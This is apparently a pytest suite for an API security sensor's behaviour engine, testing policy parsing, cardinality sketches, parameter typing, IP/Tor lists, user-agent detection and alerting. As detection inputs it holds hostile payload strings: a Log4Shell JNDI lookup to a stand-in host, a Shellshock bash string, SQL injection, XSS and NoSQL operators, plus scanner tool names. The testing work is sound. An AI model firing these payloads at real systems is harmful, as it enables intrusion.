"""Behaviour engine: the models one by one, table-driven, with hand-made traffic."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest

from sensor.behaviour import BehaviourEngine, BehaviourError, load_behaviour_policy
from sensor.behaviour.iplists import IpListSet, IpRanges, parse_ip_lines
from sensor.behaviour.paramtypes import TYPE_BITS, covered, value_type
from sensor.behaviour.policy import IpList, bundled_behaviour_path
from sensor.behaviour.sketches import Hll, KeyedHash, bitmap_add, bitmap_count, hll_estimates
from sensor.behaviour.synthetic import make
from sensor.behaviour.useragents import UserAgentMatcher
from sensor.events import AlertEvent, Batch, SensorInfo, encode_batch
from sensor.observation import JwtInfo

T0 = 1_767_225_600.0


def engine(**learning: float) -> BehaviourEngine:
    policy = load_behaviour_policy(bundled_behaviour_path())
    policy = msgspec.structs.replace(
        policy,
        learning=msgspec.structs.replace(
            policy.learning, seconds=learning.get("seconds", 0.0), requests=int(learning.get("requests", 20))
        ),
    )
    return BehaviourEngine(policy, secret=b"test-secret")


def drain_all(e: BehaviourEngine, until: float) -> list[AlertEvent]:
    return e.drain(until)


# -- policy ------------------------------------------------------------------------------------


def test_bundled_policy_loads() -> None:
    policy = load_behaviour_policy(bundled_behaviour_path())
    assert policy.learning.seconds == 3600 and policy.learning.requests == 1000
    assert {f.alert for f in policy.iplists} == {"API_AccessFromTorExitNode", "API_AccessFromSuspiciousIP"}


@pytest.mark.parametrize(
    ("text", "line", "problem"),
    [
        ("version: 1\nrate:\n  factor: high\n", 3, "Expected `float`"),
        ("version: 1\nrate:\n  fudge: 2\n", 3, "unknown field"),
        ("version: 2\n", 1, "unsupported version"),
        ("version: 1\niplists:\n  - file: x.txt\n    alert: API_Nope\n", 4, "alert must be one of"),
        ("version: 1\nuseragents:\n  patterns:\n    - 'a('\n", 4, "bad regex"),
        ("version: 1\ncaps:\n  pairs: 0\n", 3, "at least 1"),
        ("version: 1\nrate: [1\n", 3, "invalid YAML"),
    ],
)
def test_bad_policy_fails_with_file_and_line(tmp_path: Path, text: str, line: int, problem: str) -> None:
    path = tmp_path / "behaviour.yaml"
    path.write_text(text)
    with pytest.raises(BehaviourError) as info:
        load_behaviour_policy(str(path))
    message = str(info.value)
    assert message.startswith(f"{path}:{line}: "), message
    assert problem in message


def test_from_policies_prefers_the_directory_file(tmp_path: Path) -> None:
    (tmp_path / "behaviour.yaml").write_text("version: 1\nlearning:\n  requests: 7\n")
    assert BehaviourEngine.from_policies(str(tmp_path)).policy.learning.requests == 7
    assert BehaviourEngine.from_policies(None).policy.learning.requests == 1000


# -- sketches ----------------------------------------------------------------------------------


@pytest.mark.parametrize("n", [1, 10, 40, 100, 300])
def test_bitmap_linear_counting_is_close(n: int) -> None:
    hasher = KeyedHash(b"k")
    bits = 0
    for i in range(n):
        bits = bitmap_add(bits, hasher.fast(f"value-{i}"))
    assert abs(bitmap_count(bits) - n) <= max(2, 0.08 * n)


@pytest.mark.parametrize("n", [10, 1000, 50_000])
def test_hll_estimate_within_a_few_percent(n: int) -> None:
    hasher = KeyedHash(b"k")
    h = Hll(10)
    for i in range(n):
        h.add(hasher.fast(str(i)))
    (est,) = hll_estimates([h.regs])
    assert abs(est - n) <= max(2, 0.1 * n)


def test_keyed_hash_differs_per_secret_and_is_stable_per_secret() -> None:
    a, b = KeyedHash(b"one"), KeyedHash(b"two")
    assert a.stable("user", "alice") == KeyedHash(b"one").stable("user", "alice")
    assert a.stable("user", "alice") != b.stable("user", "alice")
    assert "alice" not in a.stable("user", "alice")


# -- parameter types ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("42", "int"), ("-7", "int"), ("3.14", "float"), ("1e5", "float"), ("true", "bool"), ("False", "bool"),
        ("3f2504e0-4f89-11d3-9a0c-0305e82c3301", "uuid"), ("alice@example.com", "email"),
        ("2024-05-01", "date"), ("2024-05-01T10:00:00Z", "date"), ("deadbeefcafe", "hex"),
        ("dGhpcyBpcyBhIHRlc3QgdmFsdWU=", "base64"), ("hello world", "text"), ("1' OR '1'='1", "text"),
        ('{"$ne": 1}', "object"), ("[1,2]", "array"),
    ],
)  # fmt: skip
def test_value_types(value: str, kind: str) -> None:
    assert value_type(value) == kind


@pytest.mark.parametrize(
    ("learned", "new", "ok"),
    [("hex", "int", True), ("float", "int", True), ("text", "email", True), ("int", "text", False),
     ("uuid", "text", False), ("text", "object", False), ("int", "hex", False)],
)  # fmt: skip
def test_type_lattice(learned: str, new: str, ok: bool) -> None:
    assert covered(TYPE_BITS[learned], new) is ok


# -- IP lists and user agents ------------------------------------------------------------------


def test_ip_ranges_cidr_single_and_v6() -> None:
    nets, invalid = parse_ip_lines(["10.0.0.0/8", "192.0.2.5", "# c", "", "2001:db8::/32", "nope"], "plain")
    ranges = IpRanges(nets)
    assert invalid == 1
    cases = [("10.1.2.3", True), ("11.0.0.0", False), ("192.0.2.5", True), ("192.0.2.6", False),
             ("2001:db8::1", True), ("2001:db9::1", False), ("::ffff:10.0.0.1", True), ("garbage", False)]  # fmt: skip
    for ip, hit in cases:
        assert ranges.contains(ip) is hit, ip


def test_tor_exit_addresses_format() -> None:
    lines = ["ExitNode ABCD", "Published 2024-01-01 00:00:00", "ExitAddress 198.51.100.9 2024-01-01 00:00:00",
             "LastStatus 2024-01-01 00:00:00", "192.0.2.44"]  # fmt: skip
    nets, invalid = parse_ip_lines(lines, "tor")
    assert invalid == 0
    assert {str(n) for n in nets} == {"198.51.100.9/32", "192.0.2.44/32"}


def test_ip_list_reloads_on_change_and_keeps_last_good(tmp_path: Path) -> None:
    feed = tmp_path / "bad.txt"
    feed.write_text("192.0.2.1\n")
    lists = IpListSet([IpList(file="bad.txt", alert="API_AccessFromSuspiciousIP")], str(tmp_path))
    assert lists.match("192.0.2.1") and not lists.match("192.0.2.2")
    feed.write_text("192.0.2.2\n")
    os.utime(feed, (time.time() + 5, time.time() + 5))
    assert lists.reload()
    assert lists.match("192.0.2.2") and not lists.match("192.0.2.1")
    feed.unlink()
    assert not lists.reload()  # unreadable: the last good list stays
    assert lists.match("192.0.2.2")
    assert lists.feeds[0].load_errors == 1


@pytest.mark.parametrize(
    ("ua", "verdict"),
    [
        ("sqlmap/1.8#stable (https://sqlmap.org)", ("tool", "sqlmap")),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", ("tool", "nmap")),
        ("Fuzz Faster U Fool v2.1.0", ("tool", "fuzz faster u fool")),
        ("Mozilla/5.0 ${jndi:ldap://evil/a}", "content"),
        ("() { :; }; /bin/bash -c 'id'", "content"),
        ("Mozilla/5.0' OR 1=1 --", "content"),
        ("<script>alert(1)</script>", "content"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36", None),
        ("okhttp/4.12.0", None),
        ("curl/8.5.0", None),
        ("python-requests/2.31.0", None),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148 Instagram 330.0", None),
    ],
)
def test_user_agents(ua: str, verdict: object) -> None:
    policy = load_behaviour_policy(bundled_behaviour_path())
    got = UserAgentMatcher(policy.useragents.tools, policy.useragents.patterns).match(ua)
    if verdict is None or isinstance(verdict, tuple):
        assert got == verdict
    else:
        assert got is not None and got[0] == verdict


# -- engine behaviour --------------------------------------------------------------------------


def warm(e: BehaviourEngine, n: int = 60, **kw: Any) -> float:
    """n benign requests to one endpoint from a few clients over n seconds."""
    for i in range(n):
        obs, ex, leaves = make("GET", "/products", ts=T0 + i, ip=f"10.0.0.{i % 5}", query=f"page={i % 4}", **kw)
        e.observe(obs, ex, leaves)
    e.drain(T0 + n)
    return T0 + n


def test_ip_and_user_agent_alerts_need_no_learning() -> None:
    e = engine(requests=10_000, seconds=10_000)
    for ip, ua in [("192.0.2.10", "Mozilla/5.0"), ("203.0.113.3", "Mozilla/5.0"), ("10.0.0.1", "nikto/2.5")]:
        obs, ex, leaves = make("GET", "/products", ts=T0, ip=ip, user_agent=ua)
        e.observe(obs, ex, leaves)
    types = {a.type: a for a in e.drain(T0 + 1)}
    assert set(types) == {
        "API_AccessFromTorExitNode", "API_AccessFromSuspiciousIP", "API_AccessFromSuspiciousUserAgent"
    }  # fmt: skip
    assert types["API_AccessFromSuspiciousIP"].severity == "high"
    assert types["API_AccessFromTorExitNode"].client.ip == "192.0.2.10"


def test_no_statistical_alerts_while_an_endpoint_is_learning() -> None:
    e = engine(requests=1000, seconds=3600)
    warm(e, 60)
    obs, ex, leaves = make("GET", "/products", ts=T0 + 61, query="page=1&debug=1", response_size=50_000_000)
    e.observe(obs, ex, leaves)
    assert e.drain(T0 + 62) == []


def test_unseen_param_and_type_after_learning_with_promotion() -> None:
    e = engine(requests=20)
    t = warm(e, 60)
    obs, ex, leaves = make("GET", "/products", ts=t, ip="10.9.9.9", query="page=abc%27--&admin=1")
    e.observe(obs, ex, leaves)
    alerts = {a.type: a for a in e.drain(t + 1)}
    assert set(alerts) == {"API_UnseenParam", "API_UnseenParamType"}
    assert alerts["API_UnseenParam"].evidence["param"] == "admin"
    assert alerts["API_UnseenParamType"].evidence["observed"] == "text"
    assert alerts["API_UnseenParamType"].evidence["baseline"] == ["int"]
    # Five distinct clients using the new parameter: a rollout; it becomes known and stops alerting.
    for i in range(6):
        obs, ex, leaves = make("GET", "/products", ts=t + 2 + i, ip=f"10.8.0.{i}", query="page=1&admin=1")
        e.observe(obs, ex, leaves)
    later = e.drain(t + 200)
    obs, ex, leaves = make("GET", "/products", ts=t + 300, ip="10.8.0.99", query="page=1&admin=1")
    e.observe(obs, ex, leaves)
    assert [a.type for a in later if a.client.ip == "10.8.0.5"] == []
    assert e.drain(t + 400) == []


def test_alert_groups_count_and_ship_at_most_twice_per_window() -> None:
    e = engine(requests=10_000, seconds=10_000)
    for i in range(10):
        obs, ex, leaves = make("GET", "/products", ts=T0 + i, ip="192.0.2.10")
        e.observe(obs, ex, leaves)
    first = e.drain(T0 + 5)  # the group is shipped at once (count so far) ...
    assert [(a.type, a.count) for a in first] == [("API_AccessFromTorExitNode", 10)]
    for i in range(10, 15):
        obs, ex, leaves = make("GET", "/products", ts=T0 + i, ip="192.0.2.10")
        e.observe(obs, ex, leaves)
    assert e.drain(T0 + 20) == []  # ... and the rest when its window closes
    rest = e.drain(T0 + 61)
    # count = hits since the first shipment (the collector adds counts); first/last seen = the group's
    assert [(a.count, a.first_seen.timestamp(), a.last_seen.timestamp()) for a in rest] == [(5, T0, T0 + 14)]
    assert set(rest[0].evidence) >= {"first_seen", "last_seen", "list", "window_seconds"}


def test_disabled_types_and_observe_never_raises() -> None:
    e = engine(requests=1)
    e = BehaviourEngine(msgspec.structs.replace(e.policy, disabled=["API_AccessFromTorExitNode"]))
    obs, ex, leaves = make("GET", "/products", ts=T0, ip="192.0.2.10")
    e.observe(obs, ex, leaves)
    assert e.drain(T0 + 1) == []
    # A leaf that is not a Leaf fails inside the models (a wrongly typed field would already be refused
    # at the boundary of the compiled build): counted, not raised.
    e.observe(obs, ex, [None])  # type: ignore[list-item]
    assert e.counters.errors == 1


def test_broken_authentication_variants() -> None:
    e = engine(requests=150)
    for i in range(150):  # /orders always authenticated
        obs, ex, leaves = make("GET", "/orders", ts=T0 + i, ip=f"10.0.0.{i % 9}", principal=f"jwt:{i % 9}",
                               jwt=JwtInfo(alg="RS256"), response=[])  # fmt: skip
        e.observe(obs, ex, leaves)
    t = T0 + 200
    cases = [
        ("10.1.0.1", JwtInfo(alg="none", unsigned=True), "jwt:a", "alg_none"),
        ("10.1.0.2", JwtInfo(alg="HS256", expired=True, exp=1), "jwt:b", "expired"),
        ("10.1.0.3", None, None, "no_credential"),
    ]
    for ip, jwt, principal, _ in cases:
        obs, ex, leaves = make("GET", "/orders", ts=t, ip=ip, jwt=jwt, principal=principal, response=[])
        e.observe(obs, ex, leaves)
    got = {a.client.ip: a.evidence["variant"] for a in e.drain(t + 1) if a.type == "API_BrokenAuthentication"}
    assert got == {ip: variant for ip, _, _, variant in cases}


def test_evidence_never_carries_raw_values() -> None:
    """Parameter values, user names, object ids and tokens stay in the sensor."""
    e = engine(requests=50)
    secret_values = ["alice@example.com", "hunter2-guess", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "SECRETTOKEN"]
    for i in range(60):
        obs, ex, leaves = make("POST", "/login", ts=T0 + i, ip=f"10.0.0.{i % 7}", status=200,
                               body={"username": f"user{i % 7}", "password": "x"})  # fmt: skip
        e.observe(obs, ex, leaves)
    t = T0 + 400
    for i in range(80):
        obs, ex, leaves = make("POST", "/login", ts=t + i, ip="10.66.0.1", status=401,
                               body={"username": "alice@example.com", "password": f"hunter2-guess{i}"},
                               user_agent="Mozilla ${jndi:ldap://SECRETTOKEN}")  # fmt: skip
        e.observe(obs, ex, leaves)
    alerts = e.drain(t + 1000)
    assert {"API_BruteForce", "API_AccessFromSuspiciousUserAgent", "API_ParameterEnumeration"} <= {
        a.type for a in alerts
    }
    batch = Batch(batch_id="b", sensor=SensorInfo(id="s", name="s", version="0", mode="inline",
                                                  started_at=alerts[0].first_seen),
                  created_at=alerts[0].first_seen, seq=1, alerts=alerts)  # fmt: skip
    wire = encode_batch(batch).decode()
    for value in secret_values:
        assert value not in wire, value
    json.loads(wire)


def test_warm_start_learns_without_alerting_then_detects() -> None:
    e = engine(requests=100, seconds=3600)
    replay = [make("GET", "/products", ts=T0 - 600 + i, ip=f"10.0.0.{i % 5}", query=f"page={i % 3}")
              for i in range(150)]  # fmt: skip
    replay.append(make("GET", "/products", ts=T0 - 1, ip="192.0.2.10"))  # would alert live
    assert e.warm_start(replay) == 151
    assert e.drain(T0) == []
    obs, ex, leaves = make("GET", "/products", ts=T0 + 1, ip="10.0.0.1", query="page=1&role=admin")
    e.observe(obs, ex, leaves)
    assert [a.type for a in e.drain(T0 + 2)] == ["API_UnseenParam"]


def test_hot_path_cost_is_small() -> None:
    e = engine(requests=100)
    items = [make("GET", f"/orders/{i:08d}", template="/orders/{id}", ts=T0 + i * 0.01, ip=f"10.0.{i % 50}.{i % 200}",
                  principal=f"jwt:{i % 300}", jwt=JwtInfo(alg="RS256"), query="expand=items",
                  response={"id": f"{i:08d}", "total": 3}) for i in range(5000)]  # fmt: skip
    start = time.perf_counter()
    for obs, ex, leaves in items:
        e.observe(obs, ex, leaves)
    per_call = (time.perf_counter() - start) / len(items)
    assert per_call < 100e-6  # ~15 us on a laptop; generous for CI machines


def test_population_roll_over_handed_out_rows_equals_the_full_capacity_roll() -> None:
    # The roll computes only rows below the high-water mark; rows never handed out must keep their
    # initial state through it. Same traffic into an engine forced to compute every row (the old
    # roll): identical baselines, thresholds and alerts, with endpoints evicted and rows reused.
    def small(full: bool) -> BehaviourEngine:
        e = engine(requests=20, seconds=0)
        policy = msgspec.structs.replace(e.policy, caps=msgspec.structs.replace(e.policy.caps, endpoints=8))
        e = BehaviourEngine(policy, secret=b"test-secret")
        if full:
            e._row_hi = e._row_cap
        return e

    partial, full = small(False), small(True)
    alerts: dict[bool, list[tuple[str, str, int]]] = {False: [], True: []}
    for minute in range(40):
        for i in range(30 if minute != 33 else 600):  # a burst on /ep/0 late in the run
            # /ep/0 every other request (it stays in the endpoint LRU and learns a baseline); the
            # others cycle 11 endpoints through the remaining slots: evictions, reused rows
            n = 1 + i % 11 if minute % 5 else 1 + i % 3
            path = "/ep/0" if minute == 33 or i % 2 == 0 else f"/ep/{n}"
            obs, ex, leaves = make("GET", path, ts=T0 + 60 * minute + i * 0.05, ip=f"10.0.{i % 7}.1",
                                   status=200 if i % 9 else 404)
            for e in (partial, full):
                e.observe(obs, ex, leaves)
        for e, key in ((partial, False), (full, True)):
            alerts[key] += [(a.type, a.endpoint.path, a.count) for a in e.drain(T0 + 60 * minute + 59)]
    assert partial.counters.evicted.get("endpoints", 0) > 0
    assert 0 < partial._row_hi < partial._row_cap
    assert partial._pop_thresh == full._pop_thresh and partial._pop_count == full._pop_count
    for name in ("_pop_mean", "_pop_var", "_pop_peak", "_pop_n"):
        assert getattr(partial, name).tolist() == getattr(full, name).tolist(), name
    assert alerts[False] == alerts[True]
    assert ("API_PopulationSpikeInAPITraffic", "/ep/0") in {(t, p) for t, p, _ in alerts[False]}
